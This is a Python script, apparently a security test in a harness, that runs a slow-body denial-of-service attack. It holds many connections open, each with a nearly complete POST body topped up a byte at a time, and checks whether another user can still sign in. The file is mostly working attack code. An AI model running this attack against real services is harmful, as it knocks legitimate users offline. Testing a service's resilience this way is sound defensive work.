#!/usr/bin/env python3
"""Clients without an account keep small bodies open on many connections, so that nobody else can send a body.

Each connection sends most of a body to a public route, and then a byte every few seconds. During the attack, a person at another address signs in. The password
of the person is in VICTIM_PASSWORD.
"""

import time

import attack

options = attack.arguments(
    __doc__,
    ("--url", "the service"),
    ("--victim", "the address of the person who signs in"),
    ("--from", "the attackers' addresses on this machine, as in 127.0.0.2,127.0.0.3"),
    ("--connections", "the connections of each attacker", "256"),
    ("--size", "the bytes that each connection sends at once", "65000"),
    ("--path", "the public route", "/auth/token"),
    ("--seconds", "the duration of the attack", "20"),
)
secret = attack.password("VICTIM_PASSWORD")
head = (
    f"POST {options.path} HTTP/1.1\r\nHost: attack\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    f"Content-Length: {int(options.size) + 500}\r\n\r\n"
)


def send(stream, text):
    """Sends bytes, unless the service has refused the body."""
    try:
        stream.sendall(text)
    except OSError:
        pass


def sign_in():
    body = {"email": options.victim, "password": secret}
    return attack.request(options.url, "POST", "/api/v1/auth/login", body=body, patient=False)


streams = []
for source in getattr(options, "from").split(","):
    for _ in range(int(options.connections)):
        try:
            streams.append(attack.raw(options.url, head, source))
            send(streams[-1], b"x" * int(options.size))
        except OSError:
            # The service accepts no more connections of this address.
            break
# The service reads the bodies. A sign-in during this time would take the memory of one of them.
time.sleep(1)
problems, started, last = set(), time.monotonic(), time.monotonic()
while True:
    response = sign_in()
    if response.status not in (200, 429):
        after = time.monotonic() - started
        problems.add(f"after {after:.0f} s, another client cannot sign in: {response.status} {response.text}")
    if time.monotonic() - started >= float(options.seconds):
        break
    if time.monotonic() - last > 4:
        last = time.monotonic()
        for stream in streams:
            send(stream, b"x")
    time.sleep(0.2)
for stream in streams:
    stream.close()
attack.verdict(sorted(problems))
